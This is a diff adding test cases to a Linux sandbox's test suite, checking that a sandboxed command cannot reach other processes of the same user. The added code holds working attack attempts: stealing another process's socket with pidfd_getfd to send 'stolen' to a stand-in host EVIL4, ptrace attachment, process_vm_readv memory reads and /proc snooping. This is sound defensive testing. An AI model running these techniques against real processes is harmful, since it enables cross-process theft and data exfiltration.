@@ -1,11 +1,12 @@
 # SPDX-License-Identifier: Apache-2.0
-"""What COMMAND could use besides IP sockets of its own: other families, io_uring, keyrings, its caller's terminal."""
+"""What COMMAND could use besides IP sockets of its own: other families, io_uring, keyrings, its caller's terminal,
+and other processes of the same user."""
 
 import os
 import sys
 
 from harness import Skip, case, contains, equal, refused, worked
-from plan import GITHUB4, JOB
+from plan import EVIL4, GITHUB4, JOB, JOB_ID
 
 ALLOW = ["--allow-cidr", f"{GITHUB4}:7"]
 SYSTEM_CALLS = """
@@ -128,3 +129,74 @@ def terminal(lab):
     r = lab.plain(sys.executable, "-c", TERMINAL, command[0], *command[1:])
     if "touch owned" not in r.out:
         raise Skip("this kernel does not let users type into terminals (dev.tty.legacy_tiocsti)")
+
+
+OTHER = """
+import os, socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+print(os.getpid(), s.fileno(), flush=True)
+sys.stdin.read()
+"""
+REACH = SYSTEM_CALLS + """
+        class Vector(ctypes.Structure):
+            _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
+        def steal(pid, fd):
+            pidfd = os.pidfd_open(pid)
+            with socket.socket(fileno=call("pidfd_getfd", pidfd, fd, 0)) as s:
+                return s.sendto(b"stolen", (EVIL4, 7))
+        def trace(pid):
+            if libc.ptrace(16, pid, 0, 0) < 0:  # PTRACE_ATTACH
+                raise OSError(ctypes.get_errno(), "ptrace")
+            os.waitpid(pid, 0)
+            libc.ptrace(17, pid, 0, 0)
+        def memory(pid):
+            byte = ctypes.create_string_buffer(1)
+            own = Vector(ctypes.addressof(byte), 1)
+            return call("process_vm_readv", pid, ctypes.byref(own), 1, ctypes.byref(own), 1, 0)
+        def outcomes(pid, fd):
+            return dict(steal=attempt(steal, pid, fd), trace=attempt(trace, pid), memory=attempt(memory, pid),
+                        root=attempt(lambda: len(os.listdir(f"/proc/{pid}/root/"))),
+                        directory=attempt(lambda: len(os.listdir(f"/proc/{pid}/cwd/"))),
+                        descriptor=attempt(os.readlink, f"/proc/{pid}/fd/{fd}"),
+                        namespace=attempt(os.readlink, f"/proc/{pid}/ns/mnt"))
+"""
+
+
+def other_process(lab):
+    other = lab.start_plain(["setpriv", f"--reuid={JOB_ID}", f"--regid={JOB_ID}", "--clear-groups", "/usr/bin/python3",
+                             "-c", OTHER])
+    return other, *map(int, other.read_line().split())
+
+
+@case("C9 other processes of the same user, with their sockets and mounts, are out of reach")
+def other_processes(lab):
+    other, pid, fd = other_process(lab)
+    source = REACH + f"        report(**outcomes({pid}, {fd}))"
+    r = lab.attack(ALLOW, source)
+    if "Landlock" in r.err:
+        raise Skip("this kernel has no Landlock that fits")
+    plain = lab.plain("setpriv", f"--reuid={JOB_ID}", f"--regid={JOB_ID}", "--clear-groups", *lab.python(source))
+    other.finish()
+    equal(r.status, 0, "exit status")
+    for name, fact in r.facts.items():
+        assert fact.get("errno") in ("EPERM", "EACCES"), f"{name}: {fact}"
+    assert any("value" in fact for fact in plain.facts.values()), f"none is possible outside either: {plain.facts}"
+    equal(lab.packets(EVIL4), 1 if "value" in plain.facts["steal"] else 0, "packets, all sent outside")
+
+
+@case("COMMAND's processes can still trace each other, mount in a namespace and leave user namespaces to containers")
+def own_processes(lab):
+    r = lab.attack(ALLOW, REACH + """
+        child = os.fork()
+        if child == 0:
+            time.sleep(60)
+        report(**outcomes(child, 0))
+        os.kill(child, 9)
+""")
+    for name in set(r.facts) - {"steal"}:  # of what is no socket
+        worked(r, name)
+    how = ["unshare", "--user", "--map-root-user", "--mount"]
+    script = ["sh", "-c", "mount -t tmpfs none /mnt && mount --bind /mnt /tmp && touch /tmp/made && ls /mnt"]
+    if lab.plain("setpriv", f"--reuid={JOB_ID}", f"--regid={JOB_ID}", "--clear-groups", *how, *script).status:
+        raise Skip("users cannot mount in namespaces of their own here")
+    equal(lab.run([*ALLOW, "--summary", "none"], [*how, *script]).out, "made\n", "output")
